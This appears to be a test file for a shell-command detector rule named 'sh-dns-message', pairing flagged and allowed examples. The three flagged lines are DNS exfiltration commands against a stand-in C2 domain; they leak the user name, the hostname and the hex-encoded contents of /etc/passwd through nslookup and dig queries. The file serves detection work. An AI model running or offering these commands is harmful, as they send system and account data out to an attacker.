# ruleid: sh-dns-message
nslookup $(whoami).c2.invalid
# ruleid: sh-dns-message
dig +short `hostname | xxd -p`.x.c2.invalid
# ruleid: sh-dns-message
cat /etc/passwd | xxd -p | while read l; do dig $l.c2.invalid; done
# ok: sh-dns-message
dig +short TXT example.invalid
# ok: sh-dns-message
ping -c1 $HOST
# ok: sh-dns-message
host $name.example.invalid
# ok: sh-dns-message
nslookup $(cat server.txt)
